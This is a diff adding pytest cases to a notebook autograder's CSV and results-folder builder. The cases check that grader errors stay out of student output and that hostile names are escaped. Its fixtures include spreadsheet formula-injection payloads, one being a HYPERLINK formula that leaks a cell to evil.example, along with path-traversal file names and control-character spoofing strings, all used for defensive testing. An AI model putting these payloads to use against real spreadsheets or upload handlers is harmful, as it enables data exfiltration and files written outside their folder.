@@ -199,6 +199,15 @@ def test_an_ungradable_upload_is_an_error_with_the_graders_message():
                    "reason": "This submission could not be graded: no notebook (.ipynb) in it; it holds answers.txt."}
 
 
+def test_the_graders_own_failure_reaches_the_staffs_csv_not_the_students_entry():
+    from cgcnn_grading import grade
+    results = scoring.error_results(grade.RUN_FAILED, "Export it again.", "FileNotFoundError: /autograder/source/x")
+    row = build.outcome(results, list(POINTS))
+    assert row["status"] == "error" and row["reason"] == (f"This submission could not be graded: {grade.RUN_FAILED}. "
+                                                          "[grader: FileNotFoundError: /autograder/source/x]")
+    assert "FileNotFoundError" not in results["tests"][0]["output"]
+
+
 def test_a_stopped_cell_is_a_time_limit_and_the_parts_are_read_from_their_scored_entries():
     stop = "the cell starting 'while True:' was stopped after 240 s of CPU time (time limit)"
     tests = []
@@ -340,3 +349,68 @@ def test_a_run_past_its_timeout_is_an_error_row_and_leaves_no_process(tmp_path):
     assert sandbox.processes(uid) == []
     assert not [p for p in Path(tempfile.gettempdir()).glob(f"{SCRATCH_PREFIX}*")
                 if (p / "work").is_dir() and (p / "work").stat().st_uid == uid]
+
+
+# Hostile names and file names (issue 24) ------------------------------------------------------------
+
+def test_text_cells_never_start_a_formula_and_numbers_stay_numbers():
+    cases = {'=HYPERLINK("http://x.example/?"&C2,"x")': '\'=HYPERLINK("http://x.example/?"&C2,"x")',
+             "@SUM(1+1)": "'@SUM(1+1)", "+1": "'+1", "-2+3": "'-2+3", "\tcmd": "'\tcmd", "\rcmd": "'\rcmd",
+             "Ada Lovelace": "Ada Lovelace", "a=b": "a=b", "00123": "00123",
+             "red\x1b[31mtext\u202egnp.exe": "red?[31mtext?gnp.exe", 3.5: "3.5"}
+    assert {k: build.spreadsheet_text(k) for k in cases} == cases
+
+
+@pytest.mark.parametrize("name, folder", [("...ipynb", "ipynb"), ("..", "submission"), (".hidden", "hidden"),
+                                          ("../../etc/x", "_.._etc_x"), ("a/b\\c\x00d\ne", "a_b_c_d_e"),
+                                          ("submission_1001", "submission_1001"), ("bob.ipynb", "bob.ipynb")])
+def test_a_results_folder_is_one_plain_name_inside_the_results_root(tmp_path, name, folder):
+    taken = set()
+    assert build.results_folder(name, taken) == folder
+    assert build.results_folder(name, taken) == f"{folder}-2", "two uploads, two folders"
+    assert (tmp_path / folder).resolve().parent == tmp_path.resolve()
+
+
+@root_only
+def test_hostile_names_reach_the_csv_as_text(tmp_path):
+    """Names, emails and ids from Gradescope's metadata as a student typed them: no cell is a formula
+    (nothing is graded: neither submission has a folder)."""
+    export = tmp_path / "export"
+    export.mkdir()
+    (export / build.METADATA).write_text(
+        "submission_1:\n  :submitters:\n  - :name: '=HYPERLINK(\"http://evil.example/?\"&C2,\"Ada\")'\n"
+        "    :sid: '-1+2'\n    :email: '@SUM(1+1)'\n"
+        "submission_2:\n  :submitters:\n  - :name: \"\\tTab\"\n    :sid: '00123'\n    :email: \"\\rcr@example.edu\"\n")
+    out = tmp_path / "scores.csv"
+    build.grade_folder(export, out, jobs=1)
+    _, rows = read_csv(out)
+    assert (rows["submission_1"]["name"], rows["submission_1"]["sid"], rows["submission_1"]["email"]) == \
+        ('\'=HYPERLINK("http://evil.example/?"&C2,"Ada")', "'-1+2", "'@SUM(1+1)")
+    assert (rows["submission_2"]["name"], rows["submission_2"]["sid"], rows["submission_2"]["email"]) == \
+        ("'\tTab", "00123", "'\rcr@example.edu")
+    assert rows["submission_1"]["total"] == "0" and rows["submission_1"]["status"] == "error"
+    for row in rows.values():
+        assert not [v for k, v in row.items() if v and v[0] in "=+-@\t\r"], row
+
+
+@root_only
+def test_an_upload_named_dot_dot_ipynb_writes_its_results_inside_the_results_folder(tmp_path):
+    """An upload named `...ipynb` (stem '..') wrote grader.log and results.json beside the results
+    folder; a name that is a formula became a formula in the CSV. Both are graded (as unreadable
+    notebooks: nothing runs) into folders of their own inside the results folder."""
+    uploads = tmp_path / "uploads"
+    uploads.mkdir()
+    for name in ("...ipynb", "=1+2.ipynb"):
+        (uploads / name).write_text("{}")
+    out = tmp_path / "marks" / "scores.csv"
+    rows = build.grade_folder(uploads, out, jobs=1)
+    assert [(r["submission"], r["status"]) for r in rows] == [("...ipynb", "error"), ("'=1+2.ipynb", "error")]
+    results_root = out.parent / "scores-results"
+    assert sorted(p.name for p in results_root.iterdir()) == ["_1_2", "submission"]
+    for row, folder in zip(rows, ("submission", "_1_2")):
+        assert row["results"] == f"scores-results/{folder}/results.json"
+        assert oct((results_root / folder / "grader.log").stat().st_mode & 0o777) == "0o600"
+        assert "could not be read" in json.loads((results_root / folder / "results.json").read_text())["output"]
+    outside = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if results_root not in p.parents
+                     and p != results_root)
+    assert outside == ["marks", "marks/scores.csv", "uploads", "uploads/...ipynb", "uploads/=1+2.ipynb"]
